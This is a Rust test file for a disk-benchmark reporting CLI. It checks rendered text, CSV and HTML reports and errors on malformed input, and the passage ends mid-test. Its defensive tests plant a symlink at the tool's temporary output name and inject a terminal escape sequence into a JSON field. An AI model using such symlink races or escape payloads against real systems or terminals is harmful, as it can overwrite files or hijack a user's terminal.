//! The `bootbench-report` binary on result documents from real QEMU runs
//! (tests/fixtures/*.json, see tests/fixtures/README.md): golden outputs of
//! `show`, `compare` and `csv` (UPDATE_GOLDEN=1 rewrites them), `html`'s
//! fleet section and member tables, and bad input (one-line error naming
//! the file and what is wrong, exit 2). The `fleet` command's tests are in
//! tests/fleet.rs, `extract`'s in tests/extract.rs.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use bench_core::document::frame;

mod common;

use common::*;

#[test]
fn show_golden() {
    for (f, g) in [(QEMU4, "show-qemu-4disks.txt"), (RAID_A, "show-raid0-a.txt")] {
        golden(g, &ok(&["show", &fx(f)]));
    }
    golden("show-two.txt", &ok(&["show", &fx(RAID_A), &fx(RAID_B)]));
    golden("show-read-error.txt", &ok(&["show", &fx(READ_ERROR)]));
    golden("show-health.txt", &ok(&["show", &fx(HEALTH)]));
    golden("show-health-logs.txt", &ok(&["show", &fx(HEALTH_LOGS)]));
}

/// FARM and the OCP log are shown where a document has them, and only
/// there: the same document without them shows exactly what it did.
#[test]
fn show_and_html_have_farm_and_ocp() {
    let out = ok(&["show", &fx(HEALTH_LOGS)]);
    let nvme = &out[out.find("-- /dev/nvme0n1").unwrap()..out.find("-- /dev/sda").unwrap()];
    let row = |part: &str, name: &str| -> Vec<String> {
        part.lines()
            .find(|l| l.starts_with(name))
            .unwrap_or_else(|| panic!("no {name} in {part}"))
            .split_whitespace()
            .rev()
            .take(3)
            .map(String::from)
            .collect()
    };
    assert_eq!(row(nvme, "OCP bad user NAND blocks"), ["+2", "5", "3"]);
    assert_eq!(row(nvme, "OCP capacitor health (%)"), ["-30", "70", "100"]);
    assert!(!nvme.contains("FARM"), "{nvme}");
    let sata = &out[out.find("-- /dev/sda").unwrap()..];
    assert!(sata.contains("FARM (before the tests)"), "{sata}");
    assert_eq!(row(sata, "power-on hours")[0], "1", "SMART's");
    assert!(
        sata.lines()
            .any(|l| l.starts_with("power-on hours") && l.ends_with(" 26304")),
        "{sata}"
    );
    assert!(!sata.contains("OCP"), "{sata}");
    let plain = ok(&["show", &fx(HEALTH)]);
    assert!(!plain.contains("FARM") && !plain.contains("OCP"), "{plain}");
    let html = html_page("html-health-logs", &[HEALTH_LOGS]);
    let farm = element(&html, "<table class=\"farm\">", "</table>");
    assert!(farm.contains("<tr><td>serial</td><td>ZL2ABCDE</td></tr>"), "{farm}");
    assert!(farm.contains("<tr><td>recording</td><td>CMR</td></tr>"), "{farm}");
    let nvme = element(&html, "<h3>Health of /dev/nvme0n1</h3>", "</table>");
    assert!(
        nvme.contains("<tr><td>OCP bad user NAND blocks</td><td>3</td><td>5</td><td>+2</td></tr>"),
        "{nvme}"
    );
    let plain = html_page("html-health-plain", &[HEALTH]);
    assert!(!plain.contains("FARM") && !plain.contains("OCP"));
}

/// `show` gives each disk's health under its heading: QEMU's values (the
/// h1 boot: SATA SMART, the NVMe health log), before, after, the delta.
#[test]
fn show_has_each_disks_health() {
    let out = ok(&["show", &fx(HEALTH)]);
    let nvme = &out[out.find("-- /dev/nvme0n1").unwrap()..out.find("-- /dev/sda").unwrap()];
    assert!(nvme.contains("health: nvme_smart_log, status ok\n"), "{nvme}");
    let row = |name: &str| {
        nvme.lines()
            .find(|l| l.starts_with(name))
            .unwrap_or_else(|| panic!("no {name} in {nvme}"))
            .split_whitespace()
            .rev()
            .take(3)
            .collect::<Vec<_>>()
    };
    assert_eq!(row("temperature (K, as reported)"), ["323", "323", "reported)"]);
    assert_eq!(row("data_read_bytes"), ["+88576000", "89088000", "512000"]);
    assert!(nvme.contains("rand_read_4k: 50 °C (during, 4 readings)"), "{nvme}");
    let sata = &out[out.find("-- /dev/sda").unwrap()..];
    assert!(sata.contains("health: ata_smart, status ok\n"), "{sata}");
    assert!(
        sata.contains("190  airflow_temperature_celsius       69     69         50  522125343"),
        "{sata}"
    );
}

/// The HTML report has a health table per disk.
#[test]
fn html_has_each_disks_health() {
    let html = html_page("html-health", &[HEALTH]);
    let nvme = element(&html, "<h3>Health of /dev/nvme0n1</h3>", "</table>");
    assert!(nvme.contains("<p>health: nvme_smart_log, status ok</p>"), "{nvme}");
    assert!(
        nvme.contains("<tr><td>temperature (°C)</td><td>50</td><td>50</td><td></td></tr>"),
        "{nvme}"
    );
    assert!(
        nvme.contains("<tr><td>media_errors</td><td>0</td><td>0</td><td>+0</td></tr>"),
        "{nvme}"
    );
    let sata = element(&html, "Health of /dev/sda</h3>", "<h3>");
    assert!(
        sata.contains("<td>190</td><td>airflow_temperature_celsius</td><td>69</td>"),
        "{sata}"
    );
    assert!(
        sata.contains("Highest temperature per test: seq_read_1m: 31 °C (before_after, 2 readings)"),
        "{sata}"
    );
}

#[test]
fn a_failed_test_shows_as_an_error_never_as_a_number() {
    let out = ok(&["show", &fx(READ_ERROR)]);
    let row = out
        .lines()
        .find(|l| l.starts_with("seqrd_1m ") && l.contains("error"))
        .expect("the failed seq_read row");
    let cells: Vec<&str> = row.split_whitespace().collect();
    assert_eq!(&cells[5..8], ["error", "(errno", "5)"], "{row}");
    assert!(cells[8..].iter().all(|c| *c == "err"), "{row}");
    assert!(
        out.contains("seqrd_1m: error: read at offset 2097152 failed: errno 5 (errno 5, read at offset 2097152 B)"),
        "{out}"
    );
    // The summary table (bench-core's) says err for the failed disk's seqrd.
    let summary = out
        .lines()
        .skip_while(|l| !l.starts_with("target    cached"))
        .find(|l| l.starts_with("/dev/vda "))
        .unwrap();
    assert_eq!(summary.split_whitespace().nth(3), Some("err"), "{summary}");
}

#[test]
fn show_names_units_and_skipped_tests_never_as_numbers() {
    let out = ok(&["show", &fx(QEMU4)]);
    for needle in [
        "MB/s (10^6 B/s)",
        "MiB = 2^20 B",
        "µs (10^-6 s)",
        "IOPS = requests/s",
        "seek profile, mean time per read in µs",
        "zone rates outside to inside, read MB/s",
        "p99.9",
    ] {
        assert!(out.contains(needle), "show names {needle:?}");
    }
    // seq_write was skipped on every target (read-only run): its row has no figure.
    let rows: Vec<&str> = out.lines().filter(|l| l.starts_with("seq_write_1m_qd1_j1 ")).collect();
    assert_eq!(rows.len(), 4, "one seq_write row per target");
    for r in rows {
        assert!(r.contains(" skipped "), "{r}");
        let cells: Vec<&str> = r.split_whitespace().collect();
        assert!(cells[6..].iter().all(|c| *c == "skip"), "{r}");
    }
}

#[test]
fn compare_golden() {
    golden("compare-raid0-a-b.txt", &ok(&["compare", &fx(RAID_A), &fx(RAID_B)]));
    golden("compare-qemu4-raid0-a.txt", &ok(&["compare", &fx(QEMU4), &fx(RAID_A)]));
}

#[test]
fn compare_matches_by_serial_and_says_when_by_path() {
    let out = ok(&["compare", &fx(RAID_A), &fx(RAID_B)]);
    assert!(out.contains(": serial RPT-FAST"), "{out}");
    assert!(out.contains("matched by array/layer name md r0"), "{out}");
    // The same document against itself: every ratio is 1.000.
    let same = ok(&["compare", &fx(QEMU4), &fx(QEMU4)]);
    let ratios: Vec<&str> = same
        .lines()
        .filter(|l| l.contains("  "))
        .filter_map(|l| l.split_whitespace().last())
        .filter(|c| c.contains('.') && c.parse::<f64>().is_ok())
        .collect();
    assert!(ratios.len() > 50, "{same}");
    assert!(ratios.iter().all(|r| *r == "1.000"), "{ratios:?}");
    // Two machines, no serial in common: the same paths are paired, saying
    // so; the rest is listed as unmatched.
    let apart = ok(&["compare", &fx(QEMU4), &fx(RAID_A)]);
    assert!(
        apart.contains("-- A /dev/sda = B /dev/sda: matched by path (serials differ: A BB-SATA-0002, B RPT-WR)"),
        "{apart}"
    );
    assert_eq!(apart.matches("matched by path").count(), 2, "{apart}");
    assert!(
        apart.contains("only in A: target /dev/nvme0n1 (serial BB-NVME-0001)"),
        "{apart}"
    );
    assert!(apart.contains("only in B: target /dev/md0 (md r0)"), "{apart}");
    assert!(apart.contains("only in A: test seek_profile on /dev/sda"), "{apart}");
    assert!(apart.contains("only in B: test seek on /dev/sda"), "{apart}");
}

#[test]
fn csv_golden_and_shape() {
    golden("csv-read-error.csv", &ok(&["csv", &fx(READ_ERROR)]));
    let out = ok(&["csv", &fx(QEMU4), &fx(RAID_A)]);
    golden("csv-qemu4-raid0-a.csv", &out);
    let lines: Vec<&str> = out.split("\r\n").collect();
    assert_eq!(*lines.last().unwrap(), "", "every line ends in CRLF");
    let header = bootbench_report::export::csv::header();
    assert_eq!(lines[0], header.join(","));
    // One row per target and test (plus the all-at-once runs).
    let docs: Vec<bench_core::document::result::ResultDoc> = [QEMU4, RAID_A]
        .iter()
        .map(|f| serde_json::from_str(&fs::read_to_string(fixtures().join(f)).unwrap()).unwrap())
        .collect();
    let rows: usize = docs
        .iter()
        .map(|d| d.tests.len() + d.all_at_once.iter().map(|a| a.results.len()).sum::<usize>())
        .sum();
    assert_eq!(lines.len() - 2, rows);
    // Base units: the figure is the document's bytes per second, not MB/s.
    let d = &docs[0];
    let t = d.tests.iter().find(|t| t.name == "seq_read_1m_qd1_j1").unwrap();
    let want = format!(",{},", t.summary.read_bytes_per_sec.unwrap());
    let row = lines
        .iter()
        .find(|l| l.contains(",/dev/nvme0n1,BB-NVME-0001,") && l.contains(",seq_read_1m_qd1_j1,"))
        .expect("the seq_read row of the NVMe disk");
    assert!(row.contains(&want), "{want} in {row}");
    let cells: Vec<&str> = row.split(',').collect();
    assert_eq!(cells.len(), header.len(), "{row}");
    let col = |name: &str| cells[header.iter().position(|h| *h == name).unwrap()];
    assert_eq!(col("bs_bytes"), "1048576");
    assert_eq!(col("status"), "ok");
    assert_eq!(col("target"), t.target);
    // A skipped test: its status and reason (quoted: it holds quotes), no figure.
    let skipped = lines
        .iter()
        .find(|l| l.contains(",seq_write_1m_qd1_j1,seq_write,skipped,"))
        .expect("a skipped row");
    assert!(
        skipped.contains("\"writes refused: the config has no \"\"destructive\"\" section"),
        "{skipped}"
    );
    let from = header.iter().position(|h| *h == "runtime_ns").unwrap();
    let tail: Vec<&str> = skipped.rsplitn(header.len() - from + 1, ',').collect();
    assert!(
        tail[..tail.len() - 1].iter().all(|c| c.is_empty()),
        "no figure: {skipped}"
    );
}

/// `text`, a JSON document, changed by `change`.
fn with(text: &str, change: impl FnOnce(&mut serde_json::Value)) -> String {
    let mut v: serde_json::Value = serde_json::from_str(text).unwrap();
    change(&mut v);
    v.to_string()
}

#[test]
fn bad_input_one_line_naming_the_file_exit_2() {
    let dir = scratch("bad");
    let real = fs::read_to_string(fixtures().join(RAID_A)).unwrap();
    let cases: Vec<(&str, String, &str)> = vec![
        ("text.json", "this is not json\n".into(), "not JSON"),
        ("empty.json", String::new(), "empty file"),
        ("truncated.json", real[..real.len() / 2].to_owned(), "truncated"),
        ("array.json", "[1,2,3]".into(), "is an array, not an object"),
        (
            "config.json",
            real.replacen("bootbench.result/1", "bootbench.config/1", 1),
            "\"bootbench.config/1\" is not a bootbench result document",
        ),
        (
            "v2.json",
            real.replacen("\"bootbench.result/1\"", "\"bootbench.result/2\"", 1),
            "is version 2 of the result document",
        ),
        ("noschema.json", "{\"tests\": []}".into(), "no \"schema\" field"),
        (
            "fields.json",
            "{\"schema\": \"bootbench.result/1\", \"tests\": 3}".into(),
            "does not match bootbench.result/1: tests: invalid type: integer `3`, expected a sequence",
        ),
        // A value outside a closed set names the field, the value and the set.
        (
            "status.json",
            with(&real, |v| v["run"]["status"] = "done".into()),
            "does not match bootbench.result/1: run.status: unknown variant `done`, \
             expected one of `ok`, `error`, `interrupted`",
        ),
        (
            "kind.json",
            with(&real, |v| v["targets"][1]["kind"] = "tape".into()),
            "targets[1].kind: unknown variant `tape`, expected one of `block`, `file`, `simulated`, `absent`, `md`, `dm`",
        ),
    ];
    for (name, text, want) in &cases {
        let p = dir.join(name);
        fs::write(&p, text).unwrap();
        for cmd in [vec!["show"], vec!["csv"], vec!["compare", &fx(RAID_A)]] {
            let mut args = cmd.clone();
            let ps = p.to_str().unwrap();
            args.push(ps);
            let o = run(&args);
            assert_eq!(o.status.code(), Some(2), "{name} {cmd:?}");
            assert!(o.stdout.is_empty(), "{name}: no output");
            let err = stderr(&o);
            assert_eq!(err.lines().count(), 1, "{name}: one line: {err}");
            assert!(err.contains(ps) && err.contains(want), "{name}: want {want:?}: {err}");
        }
    }
    let o = run(&["show", dir.join("nope.json").to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("nope.json: cannot read"), "{}", stderr(&o));
    let bin = dir.join("binary.json");
    fs::write(&bin, [0xff_u8, 0xfe, 0x00, 0x7b]).unwrap();
    let o = run(&["show", bin.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("not UTF-8"), "{}", stderr(&o));
    let _ = fs::remove_dir_all(&dir);
}

#[test]
fn newer_minor_version_is_read_with_a_warning() {
    let dir = scratch("minor");
    let real = fs::read_to_string(fixtures().join(RAID_A)).unwrap();
    // A newer minor version may add fields anywhere.
    let newer = real.replacen(
        "\"bootbench.result/1\"",
        "\"bootbench.result/1.3\", \"added_in_1_3\": {\"x\": 1}",
        1,
    );
    let p = dir.join("newer.json");
    fs::write(&p, newer).unwrap();
    let o = run(&["show", p.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let err = stderr(&o);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.contains("warning") && err.contains("newer.json") && err.contains("1.3"),
        "{err}"
    );
    // The same tables as version 1 (but for the file name, the verdict's
    // line, a blank line and the run's line with the schema).
    let plain = ok(&["show", &fx(RAID_A)]);
    let strip = |s: &str| -> String { s.lines().skip(4).collect::<Vec<_>>().join("\n") };
    assert_eq!(strip(&stdout(&o)), strip(&plain));
    let _ = fs::remove_dir_all(&dir);
}

#[test]
fn usage_errors_exit_2() {
    for args in [
        vec![],
        vec!["show"],
        vec!["compare", "a.json"],
        vec!["html", "a.json"],
        vec!["fleet"],
        vec!["frob"],
    ] {
        let o = run(&args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
    }
}

/// Every string (but the closed sets' values) and every number of `v` replaced.
fn mutate(v: &mut serde_json::Value, text: &str, float: f64, int: u64) {
    use serde_json::Value;
    match v {
        Value::Object(m) => {
            for (k, x) in m.iter_mut() {
                // The closed sets: their values are checked on reading.
                let tag = matches!(
                    k.as_str(),
                    "schema" | "workload" | "op" | "state" | "access" | "status" | "kind" | "mode" | "metric" | "level"
                );
                match x {
                    Value::String(s) if !tag => *s = text.to_owned(),
                    _ => mutate(x, text, float, int),
                }
            }
        }
        Value::Array(a) => a.iter_mut().for_each(|x| mutate(x, text, float, int)),
        Value::Number(n) => {
            *v = if n.is_f64() {
                serde_json::json!(float)
            } else {
                serde_json::json!(int)
            };
        }
        _ => {}
    }
}

/// A real document read and written again holds the same values: every
/// closed set reads and writes the names the document holds, and no field
/// the document has is dropped or renamed on the way. (The fixtures are
/// older than some fields, which the writing adds: those are not compared.)
#[test]
fn documents_read_and_written_again_keep_their_values() {
    /// The paths where `old` has a value `new` lacks or holds otherwise.
    fn differences(old: &serde_json::Value, new: &serde_json::Value, at: &str, out: &mut Vec<String>) {
        use serde_json::Value;
        match (old, new) {
            (Value::Object(a), Value::Object(b)) => {
                for (k, v) in a {
                    match b.get(k) {
                        Some(w) => differences(v, w, &format!("{at}.{k}"), out),
                        None => out.push(format!("{at}.{k} dropped")),
                    }
                }
            }
            (Value::Array(a), Value::Array(b)) if a.len() == b.len() => {
                for (i, (v, w)) in a.iter().zip(b).enumerate() {
                    differences(v, w, &format!("{at}[{i}]"), out);
                }
            }
            (a, b) if a == b => {}
            (a, b) => out.push(format!("{at}: {a} became {b}")),
        }
    }
    for f in [QEMU4, RAID_A, READ_ERROR, "health-h1.json", "outlier-t2.json"] {
        let text = fs::read_to_string(fixtures().join(f)).unwrap();
        let real: serde_json::Value = serde_json::from_str(&text).unwrap();
        let doc: bench_core::document::result::ResultDoc = serde_json::from_str(&text).unwrap();
        let mut out = Vec::new();
        differences(&real, &serde_json::to_value(&doc).unwrap(), "", &mut out);
        assert!(out.is_empty(), "{f}: {out:#?}");
    }
}

#[test]
fn odd_values_render_without_panics() {
    use bootbench_report::{export::csv, read, render::compare, render::show};
    for f in [QEMU4, RAID_A, READ_ERROR] {
        let real: serde_json::Value = serde_json::from_str(&fs::read_to_string(fixtures().join(f)).unwrap()).unwrap();
        for (text, float, int) in [
            ("", 0.0, 0),
            ("a,\"b\"\r\nc ü µ", 1e300, 0),
            ("x", -1.5, 1),
            ("surface_99999999999", 5e-324, 255),
        ] {
            let mut v = real.clone();
            mutate(&mut v, text, float, int);
            let l = read::parse(f, &v.to_string()).unwrap_or_else(|e| panic!("{f} {text:?}: {e}"));
            let out = show::render(&l);
            assert!(out.contains("throughput in MB/s"), "{f}");
            let c = compare::render(&l, &l);
            assert!(c.starts_with("compare A"), "{f}");
            let rows = csv::render(std::slice::from_ref(&l));
            // Quoting keeps every row at the header's width whatever the strings hold.
            let fields = |line: &str| {
                let (mut n, mut quoted) = (1, false);
                for ch in line.chars() {
                    match ch {
                        '"' => quoted = !quoted,
                        ',' if !quoted => n += 1,
                        _ => {}
                    }
                }
                n
            };
            let mut records = Vec::new();
            let mut cur = String::new();
            let mut quoted = false;
            for ch in rows.chars() {
                if ch == '"' {
                    quoted = !quoted;
                }
                if ch == '\n' && !quoted && cur.ends_with('\r') {
                    cur.pop();
                    records.push(std::mem::take(&mut cur));
                } else {
                    cur.push(ch);
                }
            }
            assert!(cur.is_empty(), "ends in CRLF");
            assert!(
                records.iter().all(|r| fields(r) == csv::header().len()),
                "{f} {text:?}: {records:?}"
            );
        }
    }
}

#[test]
fn html_writes_the_page_to_the_output_file() {
    let dir = scratch("html");
    let page = dir.join("report.html");
    let o = run(&["html", &fx(RAID_A), &fx(RAID_B), "-o", page.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let html = fs::read_to_string(&page).expect("the page is written");
    assert!(html.starts_with("<!DOCTYPE html>"), "{}", &html[..html.len().min(80)]);
    assert!(html.contains("<svg"), "charts inline");
    let left: Vec<_> = fs::read_dir(&dir).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(
        left,
        [std::ffi::OsString::from("report.html")],
        "no temporary file left"
    );
    // Bad input: nothing written, exit 2.
    let bad = dir.join("bad.json");
    fs::write(&bad, "{").unwrap();
    let other = dir.join("other.html");
    let o = run(&["html", bad.to_str().unwrap(), "-o", other.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("bad.json: truncated"), "{}", stderr(&o));
    assert!(!other.exists());
    let _ = fs::remove_dir_all(&dir);
}

/// The page `html FILES... -o page` writes (run in a scratch directory of `test`).
fn html_page(test: &str, files: &[&str]) -> String {
    let dir = scratch(test);
    let page = dir.join("report.html");
    let mut args = vec!["html".to_string()];
    args.extend(files.iter().map(|f| fx(f)));
    args.extend(["-o".to_string(), page.to_string_lossy().into_owned()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let o = run(&args);
    assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
    let html = fs::read_to_string(&page).expect("the page is written");
    let _ = fs::remove_dir_all(&dir);
    html
}

/// `html`'s fleet section: t2's two SATA disks of one model and firmware,
/// the second throttled, are a group whose median is shown with its unit,
/// whose spread is given, whose table marks the throttled disk (and only it)
/// as the outlier, and whose test has a chart with both disks (the
/// throttled one an outlier dot) and the median; the section is linked from
/// the page's contents. Documents without such a group (the raid0 run has
/// one SATA disk; the 4-disk run four models) have no fleet section at all.
#[test]
fn html_has_the_fleet_section_naming_the_outlier() {
    let html = html_page("html-fleet", &[OUTLIER]);
    let fleet = element(&html, "<section class=\"fleet\" id=\"fleet\">", "</section>");
    assert!(html.contains("<li><a href=\"#fleet\">Disks by model and firmware</a></li>"));
    assert!(fleet.contains("more than 10% below its group's median"), "{fleet}");
    let group = element(
        fleet,
        "<h4>Model E2E SATA MODEL, firmware 2.5+: seq_read_1m (seq_read), read MB/s</h4>",
        "</table>",
    );
    assert!(
        group.contains(
            "<p>2 disks on 1 machine(s): median <strong>133 MB/s</strong>, spread 4.82 MB/s to 261 MB/s \
             (193% of the median); outliers: [1] tests/fixtures/outlier-t2.json /dev/sdb.</p>"
        ),
        "{group}"
    );
    let rows: Vec<&str> = group.split("<tr").skip(2).collect();
    assert_eq!(rows.len(), 2, "{group}");
    assert!(
        rows[0].contains(
            "<td>tests/fixtures/outlier-t2.json</td><td>/dev/sda</td><td>E2E-SATA-1</td><td>261 MB/s</td>\
             <td>+96%</td><td></td>"
        ),
        "{}",
        rows[0]
    );
    assert!(rows[0].starts_with(">") && !rows[0].contains("outlier:"), "{}", rows[0]);
    assert!(
        rows[1].starts_with(" class=\"outlier\">")
            && rows[1].contains(
                "<td>/dev/sdb</td><td>E2E-SATA-2</td><td>4.82 MB/s</td><td>-96%</td>\
                 <td>outlier: more than 10% below the median</td>"
            ),
        "{}",
        rows[1]
    );
    let chart = element(fleet, "<svg class=\"chart\" data-chart=\"fleet\"", "</svg>");
    assert_eq!(chart.matches("class=\"mark dot").count(), 2, "{chart}");
    assert_eq!(chart.matches("class=\"mark dot outlier\"").count(), 1, "{chart}");
    assert_eq!(chart.matches("class=\"mark median\"").count(), 1, "{chart}");
    assert!(chart.contains("<title>median 133 MB/s</title>"), "{chart}");
    assert!(chart.contains(
        "<circle class=\"mark dot outlier\" cx=\"346.1\" cy=\"33.0\" r=\"6\" fill=\"#d62728\"><title>[1] \
         tests/fixtures/outlier-t2.json /dev/sdb (E2E-SATA-2): 4.82 MB/s, -96% against the median, outlier</title>"
    ));
    // With the raid0 pair: the same SATA disk in both documents is a group
    // of its own; t2's group is unchanged; each disk names its document.
    let three = html_page("html-fleet-three", &[OUTLIER, RAID_A, RAID_B]);
    let fleet = element(&three, "<section class=\"fleet\" id=\"fleet\">", "</section>");
    assert_eq!(fleet.matches("<div class=\"fleet-group\">").count(), 6, "{fleet}");
    assert_eq!(
        fleet.matches("data-chart=\"fleet\"").count(),
        6,
        "a chart per test and figure"
    );
    let seq = element(
        fleet,
        "<h4>Model QEMU HARDDISK, firmware 2.5+: seqrd_1m (seq_read), read MB/s</h4>",
        "</table>",
    );
    assert!(seq.contains("median <strong>34.4 MB/s</strong>"), "{seq}");
    assert!(seq.contains("outliers: none."), "{seq}");
    assert!(seq.contains("title=\"tests/fixtures/raid0-a.json\">[2]</a>"), "{seq}");
    assert!(seq.contains("title=\"tests/fixtures/raid0-b.json\">[3]</a>"), "{seq}");
    // No group of two: no section, no chart, no link.
    for files in [&[RAID_A][..], &[QEMU4], &[QEMU4, RAID_A]] {
        let html = html_page("html-no-fleet", files);
        assert!(!html.contains("class=\"fleet"), "{files:?}");
        assert!(!html.contains("data-chart=\"fleet\""), "{files:?}");
        assert!(!html.contains("#fleet"), "{files:?}");
    }
}

const MEMBERS: &str = "html/stacks-members.json";

/// Under an array's and a layer's analysis note, a table of what each
/// member did: stacks-members.json is stacks.json with `members` on the
/// seq_read_1m lines of md0 (vda did all the bytes, vdb none) and of the
/// crypt layer (vdc); the other lines have none and get no table, and
/// neither does any line of a document without members.
#[test]
fn html_shows_each_members_share_under_its_array_and_layer() {
    let html = html_page("html-members", &[MEMBERS]);
    assert_eq!(
        html.matches("<table class=\"members\">").count(),
        2,
        "md0 and dm-0, seq_read_1m"
    );
    let md = element(
        &html,
        "<table class=\"members\"><caption>Members of /dev/md0 during seq_read_1m",
        "</table>",
    );
    let rows: Vec<&str> = md.split("<tr>").skip(2).collect();
    assert_eq!(rows.len(), 2, "{md}");
    assert!(rows[0].starts_with("<td>/dev/vda</td>"), "{}", rows[0]);
    assert!(
        rows[0].contains("<span style=\"width:100.0%\"></span></span> 100%</td>"),
        "share 1.0: {}",
        rows[0]
    );
    assert!(rows[0].contains("> 97.0%</td>"), "utilization: {}", rows[0]);
    assert!(
        rows[0].contains("<td>67.1 MB</td><td>0 MB</td>"),
        "bytes read, written: {}",
        rows[0]
    );
    assert!(rows[1].starts_with("<td>/dev/vdb</td>"), "{}", rows[1]);
    assert!(
        rows[1].contains("<span style=\"width:0.0%\"></span></span> 0%</td>"),
        "share 0.0: {}",
        rows[1]
    );
    // The table is in the array chart's caption, after the line's note.
    let figure = element(
        &html,
        "<figure class=\"chart-box\"><h4>/dev/md0 (raid0 r0) · seq_read_1m",
        "</figure>",
    );
    assert!(figure.contains("efficiency 119%. Rule: raid0"), "{figure}");
    assert!(figure.contains("<table class=\"members\">"), "{figure}");
    let dm = element(
        &html,
        "<table class=\"members\"><caption>Members of /dev/dm-0 during seq_read_1m",
        "</table>",
    );
    assert_eq!(dm.matches("<tr>").count(), 2, "one member: {dm}");
    assert!(
        dm.contains("<td>/dev/vdc</td><td><span class=\"meter\"><span style=\"width:100.0%\"></span></span> 100%</td>")
    );
    assert!(dm.contains("> 88.0%</td><td>33.6 MB</td>"), "{dm}");
    // No members: no table.
    for f in ["html/stacks.json", RAID_A] {
        let html = html_page("html-no-members", &[f]);
        assert!(html.contains("data-chart=\"array\""), "{f} has array charts");
        assert!(!html.contains("class=\"members\""), "{f}");
    }
}

// ------------------------------------------------- outputs and hostile input

/// Run bootbench-report with `args`, one of which is the FIFO `fifo`, and
/// feed it `input` there once `plant` has been called with the child's
/// process id: so a test knows, before the child writes anything, the
/// names that hold its pid. No timing: the child cannot write before it
/// has read its input to the end, and the input comes after `plant`.
fn run_fed(args: &[&str], fifo: &Path, input: Vec<u8>, plant: impl FnOnce(u32)) -> Output {
    let made = Command::new("mkfifo").arg(fifo).status().expect("mkfifo");
    assert!(made.success(), "mkfifo {}", fifo.display());
    let child = Command::new(BIN)
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run bootbench-report");
    plant(child.id());
    // Opening the FIFO for writing waits for the child to open it; if the
    // child never does, the thread stays blocked and the test fails on
    // what the child said (it is not joined then).
    let path = fifo.to_path_buf();
    let feeder = std::thread::spawn(move || {
        use std::io::Write as _;
        let mut f = fs::OpenOptions::new().write(true).open(&path).expect("open the FIFO");
        f.write_all(&input).expect("feed the FIFO");
    });
    let out = child.wait_with_output().expect("wait for bootbench-report");
    if feeder.is_finished() {
        feeder.join().expect("the feeder");
    }
    out
}

/// A symlink planted at the temporary name an output was written under
/// (`.<name>.tmp-<pid>` in its directory, before this fix) is never
/// written through: the file it points to keeps its bytes, the output is
/// a regular file holding the document, and the link is left as it was.
/// For `extract -o DIR`, `html -o FILE` and `fleet --html FILE`.
#[test]
fn outputs_never_write_through_a_link_planted_at_their_temporary_name() {
    let dir = scratch("planted-link");
    let out = dir.join("out");
    fs::create_dir_all(&out).unwrap();
    let victim = dir.join("victim.txt");
    let doc = fs::read(fixtures().join(READ_ERROR)).unwrap();
    let n = frame::Nonce([0x11; 16]);
    let log = frame::announce(n) + &frame::encode("srv-1.json", br#"{"x":1}"#, n);
    // (the output's name, the command before its input, the input)
    let cases: [(&str, &str, Vec<u8>); 3] = [
        ("srv-1.json", "extract", log.into_bytes()),
        ("report.html", "html", doc.clone()),
        ("fleet.html", "fleet", doc),
    ];
    for (name, cmd, input) in cases {
        fs::write(&victim, "precious\n").unwrap();
        let fifo = dir.join(format!("{name}.fifo"));
        let target = out.join(name);
        // extract LOG -o DIR; html and fleet FILE -o FILE
        let dest = if cmd == "extract" { &out } else { &target };
        let args = [
            cmd.to_string(),
            fifo.display().to_string(),
            "-o".into(),
            dest.display().to_string(),
        ];
        let argv: Vec<&str> = args.iter().map(String::as_str).collect();
        let mut planted = PathBuf::new();
        let o = run_fed(&argv, &fifo, input, |pid| {
            planted = out.join(format!(".{name}.tmp-{pid}"));
            std::os::unix::fs::symlink(&victim, &planted).unwrap();
        });
        assert!(o.status.success(), "{name}: {:?}: {}", o.status, stderr(&o));
        assert_eq!(
            fs::read_to_string(&victim).unwrap(),
            "precious\n",
            "{name}: the planted link's target is not written"
        );
        let meta = fs::symlink_metadata(&target).unwrap();
        assert!(
            meta.file_type().is_file(),
            "{name}: a regular file, not the planted link"
        );
        assert!(fs::read(&target).unwrap().len() > 5, "{name}: the document");
        assert_eq!(
            fs::read_link(&planted).ok().as_deref(),
            Some(victim.as_path()),
            "{name}: the planted link is left as it was"
        );
        fs::remove_file(&planted).unwrap();
        fs::remove_file(&target).unwrap();
    }
    let left: Vec<_> = fs::read_dir(&out).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert!(left.is_empty(), "no temporary file left: {left:?}");
    let _ = fs::remove_dir_all(&dir);
}

/// True if `s` holds a byte a terminal acts on (C0 controls but the line
/// feed, DEL, and the C1 controls as UTF-8).
fn has_control(s: &str) -> bool {
    s.chars().any(|c| c != '\n' && c.is_control())
}

/// Every message that quotes input escapes it as the console does
/// (`bench_core::vocab::console::safe`): a `status.state` with ESC, OSC and BEL in
/// `show`, `csv`, `compare` and `fleet`'s errors and warnings, a file name
/// with ESC, and frame names in `extract`'s damaged and refused lines.
#[test]
fn messages_escape_what_they_quote() {
    let dir = scratch("escape");
    let hostile = "\u{1b}]0;pwned\u{7}\u{1b}[2J";
    let escaped = "\\x1b]0;pwned\\x07\\x1b[2J";
    let real = fs::read_to_string(fixtures().join(READ_ERROR)).unwrap();
    let bad = real.replacen(
        "\"state\": \"error\"",
        &format!("\"state\": {}", serde_json::json!(hostile)),
        1,
    );
    assert_ne!(bad, real);
    let p = dir.join("state.json");
    fs::write(&p, &bad).unwrap();
    let ps = p.to_str().unwrap();
    let raid = fx(RAID_A);
    for args in [
        vec!["show", ps],
        vec!["csv", ps],
        vec!["compare", &raid, ps],
        vec!["fleet", ps, &raid],
    ] {
        let o = run(&args);
        let err = stderr(&o);
